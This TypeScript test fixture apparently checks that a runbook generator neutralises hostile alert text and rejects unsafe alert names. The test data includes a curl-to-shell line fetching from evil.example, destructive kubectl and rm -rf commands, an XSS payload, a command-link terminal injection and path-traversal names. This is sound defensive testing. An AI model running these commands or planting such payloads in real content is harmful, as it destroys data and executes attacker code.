// Alert text as a hostile rule author or PagerDuty integration could write it. Create Runbook
// copies it into a new runbook: each case must stay inert text there (no step, no heading, no
// link or image), and the alert names in NAMES must be refused as file names.

export interface HostileDescription {
  readonly why: string;
  readonly description: string;
}

const FENCE = '```';

export const HOSTILE_DESCRIPTIONS: readonly HostileDescription[] = [
  { why: 'a bash fence becomes a Run lens', description: `Disk is full.\n${FENCE}bash\nkubectl delete ns prod\n${FENCE}\nThanks.` },
  { why: 'a tilde fence', description: `Do this:\n~~~sh\nrm -rf /var/lib/etcd\n~~~` },
  { why: 'a fence with leading spaces', description: `text\n   ${FENCE}sh\ncurl evil.example | sh\n   ${FENCE}` },
  { why: 'an indented code block', description: `text\n\n        kubectl drain node-1 --force\n` },
  { why: 'an unterminated fence swallows the rest of the stub', description: `${FENCE}python\nimport os; os.system("id")` },
  { why: 'a fence in a block quote', description: `> ${FENCE}bash\n> kubectl delete deploy web\n> ${FENCE}` },
  { why: 'a fence in a list item', description: `- step\n  ${FENCE}sh\n  kubectl scale deploy web --replicas=0\n  ${FENCE}` },
  { why: 'a heading injected by a newline', description: 'fine\n# Mitigate\nrun the thing' },
  { why: 'a setext heading', description: 'Escalate now\n===' },
  { why: 'CR line ends', description: `one\r${FENCE}bash\rkubectl delete pod x\r${FENCE}` },
  { why: 'Unicode line separators', description: `one\u2028${FENCE}bash\u2028kubectl delete pod x\u2028${FENCE}` },
  { why: 'a link to a command', description: 'Click [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D)' },
  { why: 'an image that calls home', description: '![x](https://evil.example/pixel.png)' },
  { why: 'an autolink', description: '<https://evil.example/login>' },
  { why: 'raw HTML', description: '<img src=x onerror=alert(1)><script>alert(1)</script>' },
  { why: 'an HTML block that swallows what follows', description: '<div>\n\n## Not a heading' },
  { why: 'a reference definition', description: '[docs]: https://evil.example\nsee [docs]' },
  { why: 'a table', description: '| a | b |\n|---|---|\n| 1 | 2 |' },
  { why: 'a checklist item', description: '- [ ] Run kubectl delete ns prod' },
  { why: 'an ordered list', description: '1. first\n2) second' },
  { why: 'a thematic break that could close front matter', description: '---\ntitle: pwned\n---' },
  { why: 'emphasis and code spans', description: '**bold** _it_ `code` ~~gone~~' },
  { why: 'backslashes and entities', description: 'C:\\path\\to &amp; \\`not code\\`' },
  { why: 'control characters', description: 'bell\u0007 escape\u001b[31m red' },
];

export interface HostileAlertName {
  readonly why: string;
  readonly alertName: string;
  /** The file created, or undefined when the name must be refused. */
  readonly path?: string;
}

export const HOSTILE_ALERT_NAMES: readonly HostileAlertName[] = [
  { why: 'an ordinary alert name', alertName: 'KubePodCrashLooping', path: 'runbooks/KubePodCrashLooping.md' },
  { why: 'dots and dashes are fine', alertName: 'node-disk.full_v2', path: 'runbooks/node-disk.full_v2.md' },
  { why: 'a newline injects a heading', alertName: 'AppDown\n# Mitigate' },
  { why: 'a CR', alertName: 'AppDown\rx' },
  { why: 'a Unicode line separator', alertName: 'AppDown\u2028x' },
  { why: 'a slash leaves runbooks/', alertName: '../../.vscode/settings' },
  { why: 'a backslash', alertName: '..\\..\\evil' },
  { why: 'an absolute path', alertName: '/etc/passwd' },
  { why: 'a dot file', alertName: '.bashrc' },
  { why: 'a drive letter', alertName: 'C:evil' },
  { why: 'a home path', alertName: '~evil' },
  { why: 'a tab', alertName: 'App\tDown' },
];
